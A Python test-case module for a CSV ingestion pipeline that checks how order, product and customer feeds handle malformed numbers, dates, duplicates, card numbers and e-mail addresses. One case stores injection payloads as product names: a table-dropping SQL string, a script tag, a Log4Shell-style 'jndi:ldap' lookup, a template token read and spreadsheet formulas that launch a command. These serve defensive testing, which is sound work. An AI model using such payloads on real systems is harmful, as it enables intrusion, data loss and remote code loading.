"""C. Values: cells that read as something else, or as nothing, or as more than anybody meant."""

from __future__ import annotations

from typing import Any

from .cases import Case, lines

HEADER = "id,total_amount,created_at,status"
AT = "2026-02-01 10:00:00"
PRODUCTS = "product_id,name,price,effective_at"
PRODUCT = ("product_id", "name")
LINE_HEADER = "order_id,line_id,product_id,quantity,unit_price,discount_amount"
LINE = ("line_id", "quantity", "unit_price")
BERLIN = {"naive_timezone": "Europe/Berlin", "business_timezone": "Europe/Berlin"}
DELIVERED = {"delivery_time": {"pattern": r"_(\d{8}T\d{4})", "format": "%Y%m%dT%H%M"}}
# Numbers that the card schemes publish for tests; they pass the Luhn test and belong to nobody.
CARD, SPACED_CARD, DASHED_CARD = "4111111111111111", "5500 0055 5555 5559", "3782-822463-10005"
EMAIL = "jane.doe@example.com"


def amounts(*texts: str, at: str = AT) -> dict[str, bytes]:
    """A file of orders with these amounts, numbered from 1."""
    rows = (f'{number},"{text}",{at},paid' for number, text in enumerate(texts, start=1))
    return {"orders.csv": lines(HEADER, *rows)}


def times(*texts: str) -> dict[str, bytes]:
    """A file of orders placed at these times, numbered from 1."""
    return {"orders.csv": lines(HEADER, *(f"{n},1.00,{text},paid" for n, text in enumerate(texts, start=1)))}


def order_lines(*rows: str) -> dict[str, bytes]:
    return {"lines.csv": lines(LINE_HEADER, *rows)}


def products(*names: str) -> dict[str, bytes]:
    """A file of products with these names, numbered from p1."""
    rows = (f'p{number},"{name}",1.00,{AT}' for number, name in enumerate(names, start=1))
    return {"products.csv": lines(PRODUCTS, *rows)}


def named(*names: str) -> tuple[tuple[str, ...], ...]:
    return tuple((f"p{number}", name) for number, name in enumerate(names, start=1))


def bad_amounts(number: int, title: str, *texts: str, rule: str, **settings: Any) -> Case:
    """Every amount breaks the rule."""
    faults = tuple((row, rule, "total_amount") for row in range(1, len(texts) + 1))
    return Case(number, title, "QROW", amounts(*texts), settings=settings, quarantined=faults)


HOSTILE = (
    "'); drop table raw.store_orders; --",
    "<script>alert(1)</script>",
    "{{ env_var('TILLHOUSE_TOKEN_KEY') }}",
    "${jndi:ldap://example.org/a}",
    "%s%n{0}",
)
CURRENCIES = ((1, "EUR"), (2, "usd"), (3, "XXQ"), (4, "$"))
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)")

CASES: tuple[Case, ...] = (
    bad_amounts(
        33,
        "numbers that are none: NaN, Infinity, 1e400",
        "NaN",
        "Infinity",
        "-inf",
        "1e400",
        rule="not_finite",
    ),
    Case(
        34,
        "a negative quantity or price",
        "QROW",
        order_lines("o1,1,p,-1,2.00,", "o1,2,p,1,-2.00,", "o1,3,p,1,2.00,"),
        entity="store.order_items",
        columns=LINE,
        accepted=(("3", "1", "2"),),
        quarantined=((1, "out_of_range", "quantity"), (2, "out_of_range", "unit_price")),
    ),
    Case(
        34,
        "a negative quantity that the feed calls a return",
        "ACCEPT",
        {
            "returns.csv": lines(
                "id,order_id,line_id,qty,price,returned_at", f"r1,o1,1,-2,3.00,{AT}", f"r2,o1,2,1,3.00,{AT}"
            )
        },
        entity="store.returns",
        settings={
            "only": {"qty": ["-*"]},
            "columns": {
                "quantity": {"column": "qty", "negate": True},
                "refund_amount": {"product": ["qty", "price"], "negate": True},
            },
        },
        columns=("id", "quantity", "refund_amount"),
        accepted=(("r1", "2", "6"),),
        excluded=1,
    ),
    Case(
        35,
        "a quantity of zero, and an item for nothing",
        "ACCEPT",
        order_lines("o1,1,p,0,2.00,", "o1,2,p,1,0.00,"),
        entity="store.order_items",
        columns=LINE,
        accepted=(("1", "0", "2"), ("2", "1", "0")),
    ),
    bad_amounts(
        36,
        "amounts in a notation that the feed does not declare",
        "1.234,50",
        "1,234.50",
        "£10",
        "(10.00)",
        "10.00-",
        rule="not_a_number",
    ),
    Case(
        36,
        "amounts in the notation that the feed declares",
        "ACCEPT",
        amounts("1.234,50", "£10,00"),
        settings={
            "decimal_mark": ",",
            "thousands_mark": ".",
            "columns": {"total_amount": {"column": "total_amount", "remove": ["£"]}},
        },
        accepted=(("1", "1234.5"), ("2", "10")),
    ),
    bad_amounts(
        36,
        "an amount that reads two ways in the declared notation",
        "1,234.50",
        rule="not_a_number",
        decimal_mark=",",
        thousands_mark=".",
    ),
    Case(
        37,
        "amounts that binary floating point does not hold",
        "ACCEPT",
        amounts("0.1", "0.2", "0.0001", "99999999999.9999"),
        accepted=(("1", "0.1"), ("2", "0.2"), ("3", "0.0001"), ("4", "99999999999.9999")),
    ),
    bad_amounts(37, "more than four decimals", "0.00001", rule="too_many_decimals"),
    bad_amounts(
        37,
        "more digits than decimal(18,4) holds",
        "100000000000000",
        "999999999999999999999",
        rule="out_of_range",
    ),
    Case(
        38,
        "dates in other formats than the one declared",
        "QROW",
        times("01/02/2026", "02-01-2026 10:00", "1 Feb 2026", "2026-02-01T10:00:00Z"),
        accepted=(("4", "1"),),
        quarantined=tuple((row, "not_a_timestamp", "created_at") for row in (1, 2, 3)),
    ),
    Case(
        38,
        "a date that reads two ways, where the feed declares one",
        "ACCEPT",
        times("01/02/2026"),
        settings={"timestamp_format": "%d/%m/%Y"},
        columns=("id", "created_at"),
        accepted=(("1", "2026-02-01 00:00:00"),),
    ),
    Case(
        39,
        "days that do not exist, and placeholders",
        "QROW",
        times(
            "2026-02-30 10:00:00",
            "2025-02-29 10:00:00",
            "2024-02-29 10:00:00",
            "0001-01-01 00:00:00",
            "1970-01-01 00:00:00",
            "9999-12-31 00:00:00",
        ),
        accepted=(("3", "1"),),
        quarantined=(
            (1, "not_a_timestamp", "created_at"),
            (2, "not_a_timestamp", "created_at"),
            (4, "sentinel_date", "created_at"),
            (5, "sentinel_date", "created_at"),
            (6, "sentinel_date", "created_at"),
        ),
    ),
    Case(
        39,
        "a placeholder where no date is needed",
        "NORM",
        {"orders.csv": lines(f"{HEADER},updated_at", f"1,1.00,{AT},paid,9999-12-31 00:00:00")},
        columns=("id", "updated_at"),
        accepted=(("1", None),),
        notes={"updated_at:sentinel_date": 1},
    ),
    Case(
        40,
        "a local time that the clocks skipped",
        "QROW",
        times("2025-03-30 01:59:59", "2025-03-30 02:30:00", "2025-03-30 03:00:00"),
        settings=BERLIN,
        columns=("id", "created_at", "_business_timezone"),
        accepted=(
            ("1", "2025-03-30 00:59:59", "Europe/Berlin"),
            ("3", "2025-03-30 01:00:00", "Europe/Berlin"),
        ),
        quarantined=((2, "nonexistent_local_time", "created_at"),),
    ),
    Case(
        40,
        "a local time that happened twice",
        "NORM",
        times("2025-10-26 02:30:00", "2025-10-26 02:30:00+01:00"),
        settings=BERLIN,
        columns=("id", "created_at"),
        accepted=(("1", "2025-10-26 00:30:00"), ("2", "2025-10-26 01:30:00")),
        notes={"created_at:ambiguous_local_time": 1},
    ),
    Case(
        41,
        "an event more than a day after its file arrived",
        "QROW",
        {"orders_20260301T0600.csv": times("2026-03-02 06:00:00", "2026-03-02 06:00:01")["orders.csv"]},
        settings=DELIVERED,
        accepted=(("1", "1"),),
        quarantined=((2, "future_date", "created_at"),),
    ),
    Case(
        42,
        "a row far older than the file before it",
        "ACCEPT",
        {**times("2026-02-20 10:00:00"), "orders_late.csv": lines(HEADER, "9,2.00,2024-01-05 10:00:00,paid")},
        accepted=(("1", "1"), ("9", "2")),
        elsewhere=(
            "tests/python/property/test_incremental_equals_full.py::test_drawn_sequences_equal_a_rebuild",
        ),
    ),
    Case(
        43,
        "a row that stands there twice",
        "ACCEPT",
        {"orders.csv": lines(HEADER, f"1,10.00,{AT},paid", f"2,5.00,{AT},paid", f"1,10.00,{AT},paid")},
        accepted=(("1", "10"), ("2", "5")),
        duplicates=1,
    ),
    Case(
        43,
        "equal options of one line, which are real",
        "ACCEPT",
        {
            "options.csv": lines(
                "order_id,lineitem_id,option_name,option_price,option_quantity",
                "o1,l1,espresso,0.80,1",
                "o1,l1,espresso,0.80,1",
            )
        },
        entity="restaurant.order_item_options",
        columns=("option_name", "option_price"),
        accepted=(("espresso", "0.8"), ("espresso", "0.8")),
    ),
    Case(
        44,
        "one id with two versions in one file",
        "ACCEPT",
        {
            "orders.csv": lines(
                f"{HEADER},updated_at",
                f"1,10.00,{AT},created,2026-02-01 10:00:00",
                f"1,11.00,{AT},paid,2026-02-01 12:00:00",
            )
        },
        columns=("id", "total_amount", "status"),
        accepted=(("1", "10", "created"), ("1", "11", "paid")),
    ),
    Case(
        44,
        "one id with two contents and one time",
        "ACCEPT",
        {
            "orders.csv": lines(
                f"{HEADER},updated_at",
                f"1,10.00,{AT},paid,2026-02-01 12:00:00",
                f"1,11.00,{AT},paid,2026-02-01 12:00:00",
            )
        },
        accepted=(("1", "10"), ("1", "11")),
        conflicts=1,
        warning="contradict an earlier row",
    ),
    Case(
        46,
        "a key that is empty, blank, or says NULL or N/A",
        "QROW",
        {"orders.csv": lines(HEADER, *(f"{key},1.00,{AT},paid" for key in ("", "  ", "NULL", "n/a", "NA1")))},
        accepted=(("NA1", "1"),),
        quarantined=tuple((row, "missing_value", "id") for row in (1, 2, 3, 4)),
    ),
    Case(
        47,
        "ids with leading zeros, exponents and many digits",
        "ACCEPT",
        {
            "orders.csv": lines(
                HEADER, *(f"{key},1.00,{AT},paid" for key in ("0042", "42", "1E5", "12345678901234567"))
            )
        },
        accepted=(("0042", "1"), ("42", "1"), ("1E5", "1"), ("12345678901234567", "1")),
    ),
    Case(
        50,
        "a currency that is none",
        "QROW",
        {
            "orders.csv": lines(
                f"{HEADER},currency", *(f"{n},1.00,{AT},paid,{word}" for n, word in CURRENCIES)
            )
        },
        columns=("id", "currency"),
        accepted=(("1", "EUR"), ("2", "USD")),
        quarantined=((3, "unknown_currency", "currency"), (4, "unknown_currency", "currency")),
    ),
    Case(
        51,
        "a discount larger than the line",
        "QROW",
        order_lines("o1,1,p,2,3.00,6.00", "o1,2,p,2,3.00,6.0001"),
        entity="store.order_items",
        columns=LINE,
        accepted=(("1", "2", "3"),),
        quarantined=((2, "discount_exceeds_amount", "discount_amount"),),
    ),
    Case(
        52,
        "a status that the contract does not know",
        "ACCEPT",
        {"orders.csv": lines(HEADER, f"1,10.00,{AT},paid", f"2,5.00,{AT},on_hold")},
        columns=("id", "status"),
        accepted=(("1", "paid"), ("2", "unmapped")),
        notes={"status:unmapped_word": 1},
        warning="the audit fails until it does",
    ),
    Case(
        53,
        "card numbers in free text",
        "NORM",
        products(f"paid with {CARD}", f"card {SPACED_CARD} ok", f"{DASHED_CARD}", "order 4111111111111112"),
        entity="store.products",
        columns=PRODUCT,
        accepted=named("paid with ****1111", "card ****5559 ok", "****0005", "order 4111111111111112"),
        notes={"name:card_number_masked": 3},
        private=(CARD, SPACED_CARD, DASHED_CARD, SPACED_CARD.replace(" ", ""), DASHED_CARD.replace("-", "")),
    ),
    Case(
        53,
        "card numbers in a row that is refused, in a key and in a column that nobody knows",
        "QROW",
        {
            "products.csv": lines(
                f"{PRODUCTS},note",
                f"p1,card {CARD},ten,{AT},{CARD}",
                f"{CARD},x,1.00,{AT},",
                f"p3,x,1.00,{AT},also {CARD}",
                f"p4,{CARD}",
            )
        },
        entity="store.products",
        columns=("name",),
        accepted=(("x",), ("x",)),
        quarantined=((1, "not_a_number", "price"), (4, "short_row", None)),
        notes={"product_id:card_number_masked": 1},
        rescued=(None, '{"note":"also ****1111"}'),
        private=(CARD,),
    ),
    Case(
        54,
        "an e-mail address in its column, in free text and in a row that is refused",
        "QROW",
        {
            "customers.csv": lines(
                "id,email,region,signup_date",
                f"1,{EMAIL},north,2026-01-01",
                f"2,,ask {EMAIL} first,2026-01-01",
                f"3,{EMAIL},{EMAIL},never",
            )
        },
        entity="store.customers",
        columns=("id", "region"),
        accepted=(("1", "north"), ("2", "ask [e-mail] first")),
        quarantined=((3, "not_a_date", "signup_date"),),
        notes={"region:email_masked": 1},
        private=(EMAIL, EMAIL.upper(), "jane.doe"),
    ),
    Case(
        55,
        "cells that a spreadsheet would run",
        "ACCEPT",
        products(*FORMULAS),
        entity="store.products",
        columns=PRODUCT,
        accepted=named(*FORMULAS),
        elsewhere=(
            "tests/python/ingestion/test_operations.py::test_an_export_runs_nothing_in_a_spreadsheet_and_spoils_no_number",
        ),
    ),
    Case(
        56,
        "SQL, HTML and templates in a text",
        "ACCEPT",
        products(*HOSTILE),
        entity="store.products",
        columns=PRODUCT,
        accepted=named(*HOSTILE),
    ),
    Case(
        57,
        "one id in two spellings: decomposed letters, zero width, direction marks",
        "NORM",
        {
            "products.csv": lines(
                PRODUCTS,
                f"caf\u00e9,composed,1.00,{AT}",
                "cafe\u0301,decomposed,1.00,2026-02-02 10:00:00",
                "ca\u200bf\u00e9\u202e,invisible,1.00,2026-02-03 10:00:00",
                f"p\U0001f600,emoji,1.00,{AT}",
            )
        },
        entity="store.products",
        columns=("product_id", "name"),
        accepted=(
            ("caf\u00e9", "composed"),
            ("caf\u00e9", "decomposed"),
            ("caf\u00e9", "invisible"),
            ("p\U0001f600", "emoji"),
        ),
    ),
    Case(
        57,
        "control characters in a text",
        "NORM",
        products("a\x07bell", "vertical\x0btab"),
        entity="store.products",
        columns=PRODUCT,
        accepted=named("abell", "verticaltab"),
    ),
)
